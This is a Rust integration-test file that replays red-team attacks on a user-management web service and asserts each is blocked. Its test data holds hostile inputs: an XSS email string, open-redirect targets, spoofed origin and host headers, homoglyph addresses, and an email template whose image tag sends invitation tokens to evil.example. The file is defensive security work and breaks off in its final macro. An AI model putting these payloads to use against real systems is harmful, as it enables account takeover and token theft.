//! The attacks a red-team tried (issue 13), as black-box HTTP tests on both
//! databases: each would pass again if its mechanism broke. The
//! authorization table (`authz`) walks every route as every kind of caller
//! beside these; `docs/security.md` says what each mechanism protects.

use reqwest::{Client, StatusCode};
use serde_json::json;
use usher_domain::{clock::MINUTE, model::Role};

use crate::harness::*;
use crate::on_both_databases;

const MEMBER_EMAIL: &str = "mia@example.com";
const MEMBER_PASSWORD: &str = "Member1password";

/// A member with two-factor authentication, signed in; the secret.
async fn member_with_mfa(server: &TestServer) -> (Client, String) {
    server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    let member = server.signed_in(MEMBER_EMAIL, MEMBER_PASSWORD).await;
    let (secret, _) = enrol(server, &member).await;
    (member, secret)
}

/// A reset link's token for `email`, made by the signed-in owner.
async fn reset_token(server: &TestServer, owner: &Client, email: &str) -> String {
    let users = body(owner.get(server.at("/rest/users")).send().await.unwrap()).await;
    let id = users["data"]["items"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|u| u["email"] == email)
        .and_then(|u| u["id"].as_str())
        .unwrap_or_default()
        .to_owned();
    let link = body(
        owner
            .get(server.at(&format!("/rest/users/{id}/password-reset-link")))
            .send()
            .await
            .unwrap(),
    )
    .await;
    let link = link["data"]["link"].as_str().unwrap_or_default();
    link.split("token=").nth(1).unwrap_or_default().to_owned()
}

async fn send(client: &Client, request: reqwest::RequestBuilder) -> reqwest::Response {
    let request = request.build().unwrap();
    client.execute(request).await.unwrap()
}

async fn every_check_of_a_second_factor_or_current_password_shares_one_limit(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let (member, secret) = member_with_mfa(&server).await;
    let token = reset_token(&server, &owner, MEMBER_EMAIL).await;
    server.align_to_window(5 * MINUTE);
    let wrong = json!({"mfaCode": "000000"});
    // Five wrong answers, each on another route that checks a secret.
    let attempts = [
        member.post(server.at("/rest/mfa/verify")).json(&wrong),
        member.post(server.at("/rest/mfa/disable")).json(&wrong),
        member
            .post(server.at("/rest/mfa/recovery-codes"))
            .json(&wrong),
        member.patch(server.at("/rest/me/password")).json(&json!({
            "currentPassword": "Wrong1password", "newPassword": "Another1password"
        })),
        member.patch(server.at("/rest/me")).json(&json!({
            "email": "new@example.com", "firstName": "Mia", "lastName": "Member",
            "currentPassword": "Wrong1password"
        })),
    ];
    for attempt in attempts {
        let response = send(&member, attempt).await;
        assert!(
            response.status().is_client_error() && response.status() != 429,
            "{}",
            response.status()
        );
    }
    // The sixth, even with the right code, waits out the window.
    let reset =
        json!({"token": token, "password": "Reset1password", "mfaCode": code_at(&server, &secret)});
    let refused = server
        .client()
        .post(server.at("/rest/change-password"))
        .json(&reset)
        .send()
        .await?;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = refused
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .unwrap_or_default();
    assert!((1..=300).contains(&wait), "Retry-After {wait}");
    assert!(
        body(refused).await["message"]
            .as_str()
            .unwrap_or_default()
            .contains(&format!("wait {wait} seconds"))
    );
    server.advance_minutes(5);
    let reset =
        json!({"token": token, "password": "Reset1password", "mfaCode": code_at(&server, &secret)});
    let done = server
        .client()
        .post(server.at("/rest/change-password"))
        .json(&reset)
        .send()
        .await?;
    assert_eq!(done.status(), StatusCode::OK);
    Ok(())
}

async fn ten_wrong_codes_void_the_reset_link_they_were_tried_with(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let (_, secret) = member_with_mfa(&server).await;
    let token = reset_token(&server, &owner, MEMBER_EMAIL).await;
    let guess = json!({"token": token, "password": "Reset1password", "mfaCode": "000000"});
    for round in 0..2 {
        server.align_to_window(5 * MINUTE);
        for _ in 0..5 {
            let response = server
                .client()
                .post(server.at("/rest/change-password"))
                .json(&guess)
                .send()
                .await?;
            assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "round {round}");
        }
    }
    server.align_to_window(5 * MINUTE);
    let right =
        json!({"token": token, "password": "Reset1password", "mfaCode": code_at(&server, &secret)});
    let response = server
        .client()
        .post(server.at("/rest/change-password"))
        .json(&right)
        .send()
        .await?;
    assert_eq!(response.status(), StatusCode::NOT_FOUND, "the link is void");
    Ok(())
}

async fn a_stranger_guessing_the_owner_s_password_does_not_lock_the_owner_out(
    db: Db,
) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    // The owner's browser signed in before: it holds a device cookie.
    let response = login(&owner, &server, OWNER_EMAIL, OWNER_PASSWORD).await;
    assert_eq!(response.status(), StatusCode::OK);
    server.align_to_window(MINUTE);
    let stranger = server.client();
    for _ in 0..5 {
        let response = login(&stranger, &server, OWNER_EMAIL, "Guess1password").await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    }
    let response = login(&stranger, &server, OWNER_EMAIL, OWNER_PASSWORD).await;
    assert_eq!(
        response.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "strangers are held up"
    );
    let response = login(&owner, &server, OWNER_EMAIL, OWNER_PASSWORD).await;
    assert_eq!(response.status(), StatusCode::OK, "the owner is not");
    // A device cookie made for the owner counts nothing for another login.
    server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    for _ in 0..5 {
        login(&owner, &server, MEMBER_EMAIL, "Guess1password").await;
    }
    let response = login(&server.client(), &server, MEMBER_EMAIL, MEMBER_PASSWORD).await;
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    Ok(())
}

async fn control_characters_are_refused_with_a_400_that_names_the_field(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let cases: [(reqwest::RequestBuilder, &str); 5] = [
        (
            server
                .client()
                .post(server.at("/rest/login"))
                .json(&json!({"emailOrLdapLoginId": "a\u{0}@example.com", "password": "x"})),
            "emailOrLdapLoginId",
        ),
        (
            owner
                .post(server.at("/rest/tags"))
                .json(&json!({"name": "a\u{0}b"})),
            "name",
        ),
        (
            owner
                .post(server.at("/rest/api-keys"))
                .json(&json!({"label": "k\u{0}", "scopes": [], "expiresAt": null})),
            "label",
        ),
        (owner.get(server.at("/rest/audit?action=%00")), "action"),
        (
            owner
                .post(server.at("/rest/invitations"))
                .json(&json!([{"email": "x@example.com", "role": "global:member\u{1b}"}])),
            "[0].role",
        ),
    ];
    for (request, field) in cases {
        let response = send(&owner, request).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{field}");
        let answer = body(response).await;
        assert!(
            answer["message"]
                .as_str()
                .unwrap_or_default()
                .starts_with(&format!("{field} contains a control character")),
            "{answer}"
        );
    }
    // A page's form gets the error page, with the same words.
    let page = page_form(
        &server,
        &server.client(),
        "/signin",
        &[("email", "a\u{0}@example.com"), ("password", "x")],
    )
    .await
    .send()
    .await?;
    assert_eq!(page.status(), StatusCode::BAD_REQUEST);
    assert!(
        page.text()
            .await?
            .contains("email contains a control character")
    );
    // Single-line fields refuse line breaks, which the check lets through.
    let response = owner
        .post(server.at("/rest/tags"))
        .json(&json!({"name": "two\nlines"}))
        .send()
        .await?;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    Ok(())
}

async fn audit_filters_match_percent_and_underscore_as_typed(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let count = |filter: &'static str| {
        let owner = owner.clone();
        let url = server.at(&format!("/rest/audit?{filter}"));
        async move {
            let answer = body(owner.get(url).send().await.unwrap()).await;
            answer["data"]["count"].as_i64().unwrap_or(-1)
        }
    };
    assert!(count("action=owner").await >= 1);
    assert_eq!(count("action=%25").await, 0, "% is not a wildcard");
    assert_eq!(count("action=owner_setup").await, 0, "_ is not a wildcard");
    assert_eq!(count("person=%25").await, 0);
    Ok(())
}

async fn every_answer_carries_the_security_headers(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    for path in [
        "/signin",
        "/settings/personal",
        "/settings/mfa",
        "/rest/login",
    ] {
        let client = if path == "/signin" {
            server.client()
        } else {
            owner.clone()
        };
        let response = client.get(server.at(path)).send().await?;
        let header = |name: &str| {
            response
                .headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned()
        };
        let policy = header("content-security-policy");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{path}: {policy}"
        );
        assert!(policy.contains("script-src 'self'"), "{path}: {policy}");
        assert!(!policy.contains("unsafe-inline"), "{path}: {policy}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(header("cache-control"), "no-store", "{path}");
    }
    let css = server
        .client()
        .get(server.at("/assets/usher.css"))
        .send()
        .await?;
    assert!(
        css.headers()
            .get("cache-control")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .starts_with("public"),
        "static files may be cached"
    );
    Ok(())
}

async fn a_state_changing_request_from_another_origin_is_refused(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    server.owner().await;
    let credentials = json!({"emailOrLdapLoginId": OWNER_EMAIL, "password": OWNER_PASSWORD});
    for (name, value) in [
        ("origin", "http://evil.example"),
        ("origin", "http://127.0.0.1.evil.example"),
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-site", "same-site"),
    ] {
        let response = server
            .client()
            .post(server.at("/rest/login"))
            .header(name, value)
            .json(&credentials)
            .send()
            .await?;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{name}: {value}");
        let page = page_form(
            &server,
            &server.client(),
            "/signin",
            &[("email", OWNER_EMAIL), ("password", OWNER_PASSWORD)],
        )
        .await
        .header(name, value)
        .send()
        .await?;
        assert_eq!(page.status(), StatusCode::FORBIDDEN, "{name}: {value}");
        assert!(page.text().await?.contains("came from another website"));
    }
    let own_origin = server.url.trim_end_matches('/').to_owned();
    for (name, value) in [
        ("origin", own_origin.as_str()),
        ("sec-fetch-site", "same-origin"),
    ] {
        let response = server
            .client()
            .post(server.at("/rest/login"))
            .header(name, value)
            .json(&credentials)
            .send()
            .await?;
        assert_eq!(response.status(), StatusCode::OK, "{name}: {value}");
    }
    Ok(())
}

async fn sign_in_never_redirects_away_from_usher(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    server.owner().await;
    for (target, expected) in [
        ("/settings/users", "/settings/users"),
        ("/\t/evil.example", "/"),
        ("/\n/x", "/"),
        ("//evil.example/", "/"),
        ("/\\evil.example", "/"),
        ("https://evil.example/", "/"),
        ("/..//evil.example", "/"),
        ("/%2e%2e//evil.example", "/"),
    ] {
        // Six sign-ins: each in a minute of its own, under the limit.
        server.advance_minutes(1);
        let response = page_form(
            &server,
            &server.client(),
            "/signin",
            &[
                ("email", OWNER_EMAIL),
                ("password", OWNER_PASSWORD),
                ("redirect", target),
            ],
        )
        .await
        .send()
        .await?;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{target:?}");
        assert_eq!(location(&response), expected, "{target:?}");
    }
    Ok(())
}

async fn addresses_that_are_not_valid_email_addresses_are_refused(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    for bad in [
        "\"><svg/onload=alert(1)>@x.io",
        "a,b@evil.io",
        "ann@exa mple.com",
    ] {
        let answer = body(
            owner
                .post(server.at("/rest/invitations"))
                .json(&json!([{"email": bad}]))
                .send()
                .await?,
        )
        .await;
        let text = answer.to_string();
        assert!(
            text.contains("is not a valid email address"),
            "{bad}: {text}"
        );
    }
    // A look-alike of an existing address: a Cyrillic "а" in the domain,
    // "rn" for "m".
    for look_alike in ["owner@exаmple.com", "owner@example.corn"] {
        let answer = body(
            owner
                .post(server.at("/rest/invitations"))
                .json(&json!([{"email": look_alike}]))
                .send()
                .await?,
        )
        .await;
        let text = answer.to_string();
        assert!(
            text.contains("looks like the address of an existing user, owner@example.com"),
            "{look_alike}: {text}"
        );
    }
    let users = body(owner.get(server.at("/rest/users")).send().await?).await;
    assert_eq!(users["data"]["count"], 1, "nobody was added: {users}");
    server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    let member = server.signed_in(MEMBER_EMAIL, MEMBER_PASSWORD).await;
    let changed = member
        .patch(server.at("/rest/me"))
        .json(&json!({
            "email": "owner@exаmple.com", "firstName": "Mia", "lastName": "Member",
            "currentPassword": MEMBER_PASSWORD
        }))
        .send()
        .await?;
    assert_eq!(changed.status(), StatusCode::BAD_REQUEST);
    Ok(())
}

async fn project_members_see_each_other_as_the_user_list_shows_members(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let mia = server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    let ben = server
        .add_user("ben@example.com", MEMBER_PASSWORD, Role::Member)
        .await;
    let project = body(
        owner
            .post(server.at("/rest/projects"))
            .json(&json!({"name": "Ops"}))
            .send()
            .await?,
    )
    .await;
    let id = project["data"]["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    for (user, role) in [(&mia, "project:viewer"), (&ben, "project:editor")] {
        let added = owner
            .post(server.at(&format!("/rest/projects/{id}/members")))
            .json(&json!({"userId": user.id.to_string(), "role": role}))
            .send()
            .await?;
        assert_eq!(added.status(), StatusCode::OK);
    }
    let member = server.signed_in(MEMBER_EMAIL, MEMBER_PASSWORD).await;
    let seen = body(
        member
            .get(server.at(&format!("/rest/projects/{id}")))
            .send()
            .await?,
    )
    .await;
    let members = seen["data"]["members"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(members.len(), 3, "{seen}");
    for other in &members {
        let keys: Vec<&str> = other
            .as_object()
            .map(|o| o.keys().map(String::as_str).collect())
            .unwrap_or_default();
        if other["email"] == MEMBER_EMAIL {
            assert!(
                keys.contains(&"mfaEnabled"),
                "the member sees themself in full"
            );
            continue;
        }
        for hidden in [
            "mfaEnabled",
            "passwordChangeRequired",
            "createdAt",
            "updatedAt",
        ] {
            assert!(!keys.contains(&hidden), "{hidden} shown: {other}");
        }
        assert!(keys.contains(&"projectRole"));
    }
    Ok(())
}

/// The link's token, from `…?token=<token>`.
fn token_of(link: &str) -> String {
    link.split("token=").nth(1).unwrap_or_default().to_owned()
}

async fn a_reset_leaves_nothing_of_the_old_accounts_usable(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let old_owner = body(owner.get(server.at("/rest/login")).send().await?).await;
    let key = new_key(&server, &owner, "ops", &["user:list", "user:create"]).await;
    let owner_link = server
        .state
        .usher()
        .operator_reset_link(OWNER_EMAIL)
        .await?;
    server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    let member = server.signed_in(MEMBER_EMAIL, MEMBER_PASSWORD).await;
    let member_token = reset_token(&server, &owner, MEMBER_EMAIL).await;
    let created = member
        .post(server.at("/rest/workflows"))
        .json(&json!({"name": "Member's work"}))
        .send()
        .await?;
    assert_eq!(created.status(), StatusCode::OK);
    let invited = body(
        owner
            .post(server.at("/rest/invitations"))
            .json(&json!([{"email": "ivy@example.com"}]))
            .send()
            .await?,
    )
    .await;
    let invitation = token_of(
        invited["data"][0]["user"]["inviteAcceptUrl"]
            .as_str()
            .unwrap_or_default(),
    );

    server.state.usher().reset_user_management().await?;

    let listed = Client::new()
        .get(server.at("/api/v1/users"))
        .header("X-N8N-API-KEY", &key)
        .send()
        .await?;
    assert_eq!(listed.status(), StatusCode::UNAUTHORIZED, "the old key");
    for client in [&owner, &member] {
        let me = client.get(server.at("/rest/login")).send().await?;
        assert_eq!(me.status(), StatusCode::UNAUTHORIZED, "an old session");
    }
    let signup = server
        .client()
        .get(server.at(&format!("/rest/resolve-signup-token?token={invitation}")))
        .send()
        .await?;
    assert!(signup.status().is_client_error(), "the old invitation");
    // A new owner sets up: a new account, which nothing from before opens.
    let new_owner = server.owner().await;
    let now_owner = body(new_owner.get(server.at("/rest/login")).send().await?).await;
    assert_ne!(now_owner["data"]["id"], old_owner["data"]["id"]);
    assert_eq!(now_owner["data"]["mfaEnabled"], false);
    for token in [token_of(&owner_link), member_token] {
        let reset = server
            .client()
            .post(server.at("/rest/change-password"))
            .json(&json!({"token": token, "password": "Taken1password"}))
            .send()
            .await?;
        assert_eq!(reset.status(), StatusCode::NOT_FOUND, "an old reset link");
    }
    let listed = Client::new()
        .get(server.at("/api/v1/users"))
        .header("X-N8N-API-KEY", &key)
        .send()
        .await?;
    assert_eq!(
        listed.status(),
        StatusCode::UNAUTHORIZED,
        "the old key, after set-up"
    );
    // Nobody's work was lost: it is the new owner's.
    let work = body(new_owner.get(server.at("/rest/workflows")).send().await?).await;
    assert_eq!(work["data"][0]["name"], "Member's work", "{work}");
    Ok(())
}

async fn setting_up_an_open_instance_revokes_what_was_made_meanwhile_and_says_so(
    db: Db,
) -> TestResult {
    let server = TestServer::start(db).await;
    let passer_by = server.client();
    let skipped = passer_by
        .post(server.at("/rest/owner/skip-setup"))
        .json(&json!({}))
        .send()
        .await?;
    assert_eq!(skipped.status(), StatusCode::OK);
    let key = new_key(&server, &passer_by, "left behind", &["user:list"]).await;
    let invited = body(
        passer_by
            .post(server.at("/rest/invitations"))
            .json(&json!([{"email": "ivy@example.com"}]))
            .send()
            .await?,
    )
    .await;
    let invitation = token_of(
        invited["data"][0]["user"]["inviteAcceptUrl"]
            .as_str()
            .unwrap_or_default(),
    );
    let made = passer_by
        .post(server.at("/rest/workflows"))
        .json(&json!({"name": "Crypto miner"}))
        .send()
        .await?;
    assert_eq!(made.status(), StatusCode::OK);
    // The passer-by cannot choose the real owner's second factor.
    let enrol = passer_by.get(server.at("/rest/mfa/qr")).send().await?;
    assert_eq!(enrol.status(), StatusCode::FORBIDDEN);
    // ... and the invitation email's wording they write does not survive.
    let wording = page_form(
        &server,
        &passer_by,
        "/settings/email",
        &[
            ("subject", "Join us"),
            ("html", "<a href=\"{{inviteAcceptUrl}}\">join</a><img src=\"http://evil.example/?u={{inviteAcceptUrl}}\">"),
        ],
    )
    .await
    .send()
    .await?;
    assert!(wording.status().is_success() || wording.status().is_redirection());

    let owner = server.owner().await;
    let me = body(owner.get(server.at("/rest/login")).send().await?).await;
    assert_eq!(me["data"]["mfaEnabled"], false);
    let email_page = owner
        .get(server.at("/settings/email"))
        .send()
        .await?
        .text()
        .await?;
    assert!(
        !email_page.contains("evil.example"),
        "the wording is back to Usher's"
    );

    let listed = Client::new()
        .get(server.at("/api/v1/users"))
        .header("X-N8N-API-KEY", &key)
        .send()
        .await?;
    assert_eq!(
        listed.status(),
        StatusCode::UNAUTHORIZED,
        "the key is revoked"
    );
    let signup = server
        .client()
        .get(server.at(&format!("/rest/resolve-signup-token?token={invitation}")))
        .send()
        .await?;
    assert!(
        signup.status().is_client_error(),
        "the invitation is revoked"
    );
    let audit = body(
        owner
            .get(server.at("/rest/audit?action=owner.open_access_revoked"))
            .send()
            .await?,
    )
    .await;
    assert_eq!(
        audit["data"]["items"][0]["detail"],
        "1 API key and 1 pending invitation made while the instance was open",
        "{audit}"
    );
    let home = owner.get(server.at("/")).send().await?.text().await?;
    assert!(home.contains("While this instance was open"), "{home}");
    assert!(
        home.contains("An API key, “left behind”, was made."),
        "{home}"
    );
    assert!(home.contains("ivy@example.com was invited."), "{home}");
    assert!(home.contains("Crypto miner"), "{home}");
    let dismissed = page_form(&server, &owner, "/open-period/dismiss", &[])
        .await
        .header("sec-fetch-site", "same-origin")
        .send()
        .await?;
    assert_eq!(dismissed.status(), StatusCode::SEE_OTHER);
    let home = owner.get(server.at("/")).send().await?.text().await?;
    assert!(!home.contains("While this instance was open"));
    Ok(())
}

async fn page_forms_need_the_form_token_of_their_own_session(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    server.owner().await;
    let owner = server.signed_in(OWNER_EMAIL, OWNER_PASSWORD).await;
    let other_tab = server.signed_in(OWNER_EMAIL, OWNER_PASSWORD).await;
    let fields = [
        ("email", OWNER_EMAIL),
        ("firstName", "Forged"),
        ("lastName", "Name"),
    ];
    let forged_token = form_token(&server, &other_tab).await;
    for token in ["", "not-a-token", forged_token.as_str()] {
        let mut form = fields.to_vec();
        form.push(("_csrf", token));
        let refused = owner
            .post(server.at("/settings/personal"))
            .form(&form)
            .send()
            .await?;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN, "token {token:?}");
        assert!(refused.text().await?.contains("This form has expired"));
    }
    let me = body(owner.get(server.at("/rest/me")).send().await?).await;
    assert_eq!(me["data"]["firstName"], "Olive", "nothing changed");
    let saved = page_form(&server, &owner, "/settings/personal", &fields)
        .await
        .send()
        .await?;
    assert!(saved.status().is_success() || saved.status().is_redirection());
    let me = body(owner.get(server.at("/rest/me")).send().await?).await;
    assert_eq!(me["data"]["firstName"], "Forged");
    // Before sign-in too: the sign-in form is bound to a cookie of its own.
    let stranger = server.client();
    let refused = stranger
        .post(server.at("/signin"))
        .form(&[("email", OWNER_EMAIL), ("password", OWNER_PASSWORD)])
        .send()
        .await?;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    Ok(())
}

async fn with_samesite_none_another_site_still_cannot_change_anything(db: Db) -> TestResult {
    let server = TestServer::start_with(
        db,
        &[
            ("N8N_SAMESITE_COOKIE", "none"),
            ("N8N_SECURE_COOKIE", "true"),
        ],
    )
    .await;
    server.owner().await;
    // The browser sends the session cookie along with another site's
    // requests (SameSite=None): only the origin check and the form token
    // stand in the way.
    let cookie = session_cookie(&server, OWNER_EMAIL, OWNER_PASSWORD).await;
    assert!(!cookie.is_empty());
    let api = server
        .client()
        .patch(server.at("/rest/me"))
        .header("cookie", &cookie)
        .header("origin", "https://evil.example")
        .json(&json!({"email": OWNER_EMAIL, "firstName": "Evil", "lastName": "Corp"}))
        .send()
        .await?;
    assert_eq!(api.status(), StatusCode::FORBIDDEN);
    for extra in [Some(("sec-fetch-site", "cross-site")), None] {
        let mut request = server
            .client()
            .post(server.at("/settings/personal"))
            .header("cookie", &cookie)
            .form(&[
                ("email", OWNER_EMAIL),
                ("firstName", "Evil"),
                ("lastName", "Corp"),
            ]);
        if let Some((name, value)) = extra {
            request = request.header(name, value);
        }
        assert_eq!(request.send().await?.status(), StatusCode::FORBIDDEN);
    }
    let me = body(
        server
            .client()
            .get(server.at("/rest/me"))
            .header("cookie", &cookie)
            .send()
            .await?,
    )
    .await;
    assert_eq!(me["data"]["firstName"], "Olive");
    Ok(())
}

async fn two_factor_set_up_shows_one_secret_until_it_is_enabled_or_renewed(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let qr = |client: Client| {
        let url = server.at("/rest/mfa/qr");
        async move { body(client.get(url).send().await.unwrap()).await["data"].clone() }
    };
    let first = qr(owner.clone()).await;
    let again = qr(owner.clone()).await;
    assert_eq!(first["secret"], again["secret"], "the app scanned this one");
    assert_eq!(first["recoveryCodes"], again["recoveryCodes"]);
    let renewed = body(
        owner
            .post(server.at("/rest/mfa/qr/renew"))
            .json(&json!({}))
            .send()
            .await?,
    )
    .await["data"]
        .clone();
    assert_ne!(renewed["secret"], first["secret"]);
    assert_eq!(qr(owner.clone()).await["secret"], renewed["secret"]);
    let secret = renewed["secret"].as_str().unwrap_or_default();
    let stale = owner
        .post(server.at("/rest/mfa/enable"))
        .json(&json!({"mfaCode": code_at(&server, first["secret"].as_str().unwrap_or_default())}))
        .send()
        .await?;
    assert_eq!(
        stale.status(),
        StatusCode::BAD_REQUEST,
        "the old secret is gone"
    );
    server.advance_minutes(1);
    let enabled = owner
        .post(server.at("/rest/mfa/enable"))
        .json(&json!({"mfaCode": code_at(&server, secret)}))
        .send()
        .await?;
    assert_eq!(enabled.status(), StatusCode::OK);
    // The codes shown are the ones that work.
    let code = renewed["recoveryCodes"][0].as_str().unwrap_or_default();
    let signed_in = server
        .client()
        .post(server.at("/rest/login"))
        .json(&json!({"emailOrLdapLoginId": OWNER_EMAIL, "password": OWNER_PASSWORD, "mfaRecoveryCode": code}))
        .send()
        .await?;
    assert_eq!(signed_in.status(), StatusCode::OK);
    Ok(())
}

async fn handing_over_ownership_checks_the_password_within_the_limit(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    server.owner().await;
    let owner = server.signed_in(OWNER_EMAIL, OWNER_PASSWORD).await;
    let mia = server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Admin)
        .await;
    server.align_to_window(5 * MINUTE);
    for _ in 0..5 {
        let wrong = owner
            .post(server.at("/rest/owner/transfer"))
            .json(&json!({"newOwnerId": mia.id.to_string(), "password": "Guess1password"}))
            .send()
            .await?;
        assert_eq!(wrong.status(), StatusCode::BAD_REQUEST);
    }
    let right = owner
        .post(server.at("/rest/owner/transfer"))
        .json(&json!({"newOwnerId": mia.id.to_string(), "password": OWNER_PASSWORD}))
        .send()
        .await?;
    assert_eq!(
        right.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "no yes/no oracle"
    );
    Ok(())
}

async fn a_device_cookie_stops_counting_when_the_password_changes(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    server.owner().await;
    server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    let old_device = server.signed_in(MEMBER_EMAIL, MEMBER_PASSWORD).await;
    let member = server.signed_in(MEMBER_EMAIL, MEMBER_PASSWORD).await;
    let changed = member
        .patch(server.at("/rest/me/password"))
        .json(&json!({"currentPassword": MEMBER_PASSWORD, "newPassword": "Changed1password"}))
        .send()
        .await?;
    assert_eq!(changed.status(), StatusCode::OK);
    server.align_to_window(MINUTE);
    // The old device cookie is a stranger's now: it shares the email's 5.
    for _ in 0..5 {
        let wrong = login(&old_device, &server, MEMBER_EMAIL, "Guess1password").await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let stranger = login(&server.client(), &server, MEMBER_EMAIL, "Guess1password").await;
    assert_eq!(stranger.status(), StatusCode::TOO_MANY_REQUESTS);
    Ok(())
}

async fn rest_takes_json_or_nothing_and_its_state_changing_gets_refuse_other_sites(
    db: Db,
) -> TestResult {
    let server = TestServer::start(db).await;
    let owner = server.owner().await;
    let renew = owner
        .post(server.at("/rest/mfa/qr/renew"))
        .header("content-type", "text/plain")
        .body("{}")
        .send()
        .await?;
    assert_eq!(renew.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let bodiless = owner.post(server.at("/rest/mfa/qr/renew")).send().await?;
    assert_eq!(bodiless.status(), StatusCode::OK, "a script without a body");
    let mia = server
        .add_user(MEMBER_EMAIL, MEMBER_PASSWORD, Role::Member)
        .await;
    for path in [
        "/rest/mfa/qr".to_owned(),
        format!("/rest/users/{}/password-reset-link", mia.id),
    ] {
        let cross = owner
            .get(server.at(&path))
            .header("sec-fetch-site", "cross-site")
            .send()
            .await?;
        assert_eq!(cross.status(), StatusCode::FORBIDDEN, "{path}");
    }
    Ok(())
}

async fn reset_requests_count_per_address_as_stored(db: Db) -> TestResult {
    let sink = crate::mail_sink::SmtpSink::start(
        crate::mail_sink::Security::Plain,
        Some((SMTP_USER, SMTP_PASSWORD)),
    )
    .await;
    let server =
        TestServer::start_with_mail(db, &sink, crate::mail_sink::Security::Plain, &[]).await;
    server.owner().await;
    server.align_to_window(60 * MINUTE);
    let ask = |email: &'static str| {
        let client = server.client();
        let url = server.at("/rest/forgot-password");
        async move {
            client
                .post(url)
                .json(&json!({"email": email}))
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    for _ in 0..3 {
        assert_eq!(ask(OWNER_EMAIL).await, StatusCode::OK);
    }
    // The same inbox, written with fullwidth letters in the domain.
    assert_eq!(
        ask("owner@ｅxample.com").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    Ok(())
}

async fn requests_for_another_host_name_are_refused(db: Db) -> TestResult {
    let server = TestServer::start(db).await;
    let client = server.client();
    let skip = client
        .post(server.at("/rest/owner/skip-setup"))
        .header("host", "rebind.attacker.example")
        .header("origin", "http://rebind.attacker.example")
        .header("sec-fetch-site", "same-origin")
        .json(&json!({}))
        .send()
        .await?;
    assert_eq!(skip.status(), StatusCode::MISDIRECTED_REQUEST);
    let answer = body(skip).await;
    assert!(
        answer["message"]
            .as_str()
            .unwrap_or_default()
            .contains("N8N_ALLOWED_HOSTS")
    );
    let page = client
        .get(server.at("/setup"))
        .header("host", "rebind.attacker.example")
        .send()
        .await?;
    assert_eq!(page.status(), StatusCode::MISDIRECTED_REQUEST);
    let health = client
        .get(server.at("/healthz"))
        .header("host", "rebind.attacker.example")
        .send()
        .await?;
    assert_eq!(health.status(), StatusCode::OK);
    // A name the operator allows.
    let allowed =
        TestServer::start_with(db, &[("N8N_ALLOWED_HOSTS", "usher.internal.example")]).await;
    let fine = allowed
        .client()
        .get(allowed.at("/setup"))
        .header("host", "usher.internal.example")
        .send()
        .await?;
    assert_eq!(fine.status(), StatusCode::OK);
    Ok(())
}

on_both_databases!(
    handing_over_ownership_checks_the_password_within_the_limit,
    a_device_cookie_stops_counting_when_the_password_changes,
    rest_takes_json_or_nothing_and_its_state_changing_gets_refuse_other_sites,
    reset_requests_count_per_address_as_stored,
    requests_for_another_host_name_are_refused,
    page_forms_need_the_form_token_of_their_own_session,
    with_samesite_none_another_site_still_cannot_change_anything,
    two_factor_set_up_shows_one_secret_until_it_is_enabled_or_renewed,
    setting_up_an_open_instance_revokes_what_was_made_meanwhile_and_says_so,
    a_reset_leaves_nothing_of_the_old_accounts_usable,
    project_members_see_each_other_as_the_user_list_shows_members,
    every_check_of_a_second_factor_or_current_password_shares_one_limit,
    ten_wrong_codes_void_the_reset_link_they_were_tried_with,
    a_stranger_guessing_the_owner_s_password_does_not_lock_the_owner_out,
